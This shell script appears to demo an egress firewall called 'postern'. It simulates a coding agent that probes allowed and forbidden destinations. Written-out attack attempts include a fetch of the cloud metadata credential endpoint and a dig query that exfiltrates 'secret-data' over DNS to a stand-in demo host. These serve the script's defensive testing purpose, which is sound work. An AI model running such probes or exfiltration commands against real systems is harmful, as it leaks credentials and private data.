#!/bin/sh
# A small stand-in for a coding agent: it tries to reach places, some allowed by
# the demo policy and some not, and prints one line per attempt:
#
#   OK       <attempt>  what came back      (the destination answered)
#   BLOCKED  <attempt>  what stopped it     (the wall or the door refused)
#
# It knows nothing about postern: no proxy variables, no special flags. Every
# connection it opens goes where it asks, and the wall sends it to the door.
#
# The demo sets:
#   DEMO_CA       the test hosts' certificate authority (PEM)
#   DEMO_PRIVATE  a private address that the policy does not list
#   DEMO_DNS      the test DNS server that knows every demo name

: "${DEMO_CA:?set by the demo}" "${DEMO_PRIVATE:?set by the demo}" "${DEMO_DNS:?set by the demo}"

line() { printf '%-8s %-13s %s\n' "$1" "$2" "$3"; }

# http ATTEMPT URL [CURL ARGS...]: fetch URL and say whether the test host
# answered, the door refused with a 403 (its first lines are shown), or the
# connection never got anywhere.
http() {
	attempt=$1
	url=$2
	shift 2
	out=$(curl -sS --max-time 5 --cacert "$DEMO_CA" -w '\n%{http_code}' "$@" "$url" 2>&1)
	rc=$?
	code=$(printf '%s\n' "$out" | tail -n 1)
	body=$(printf '%s\n' "$out" | sed '$d')
	served=$(printf '%s\n' "$body" | sed -n 's/.*"served_by":"\([^"]*\)".*/\1/p')
	if [ "$rc" -eq 0 ] && [ "$code" = 200 ] && [ -n "$served" ]; then
		line OK "$attempt" "$url -> HTTP 200 from test host '$served'"
	elif [ "$code" = 403 ]; then
		line BLOCKED "$attempt" "$url -> HTTP 403 from the door:"
		printf '%s\n' "$body" | sed 's/^/                        | /'
	else
		why=$(printf '%s\n' "$body" | head -n 1)
		line BLOCKED "$attempt" "$url -> ${why:-no answer (curl exit $rc)}"
	fi
}

http allowed-tls  https://allowed.demo.test/
http allowed-http http://allowed.demo.test/
http subdomain    https://api.allowed.demo.test/
http deny-wins    https://denied.allowed.demo.test/
http forbidden    http://forbidden.demo.test/
http private-ip   "http://$DEMO_PRIVATE/"
http metadata     http://169.254.169.254/latest/meta-data/
http other-port   http://allowed.demo.test:8080/

# DNS exfiltration: encode a secret in a name and ask a DNS server directly.
# Inside the wall every DNS packet, to any address, reaches the door's resolver.
ans=$(dig "@$DEMO_DNS" +time=2 +tries=1 secret-data.exfil.demo.test A 2>&1)
status=$(printf '%s\n' "$ans" | sed -n 's/.*status: \([A-Z]*\).*/\1/p' | head -n 1)
if [ "$status" = NOERROR ] && printf '%s\n' "$ans" | grep -q 'ANSWER: [1-9]'; then
	line OK dns-exfil "dig @$DEMO_DNS secret-data.exfil.demo.test -> answered"
else
	line BLOCKED dns-exfil "dig @$DEMO_DNS secret-data.exfil.demo.test -> ${status:-no answer}"
fi

# No environment at all (so certainly no proxy variables): the wall does not
# depend on the agent's cooperation, and allowed traffic still flows.
out=$(env -i curl -sS --max-time 5 --cacert "$DEMO_CA" https://allowed.demo.test/ 2>&1)
case $out in
*'"served_by":"allowed"'*) line OK env-i "env -i curl https://allowed.demo.test/ -> reached test host 'allowed'" ;;
*) line BLOCKED env-i "env -i curl https://allowed.demo.test/ -> $(printf '%s\n' "$out" | head -n 1)" ;;
esac
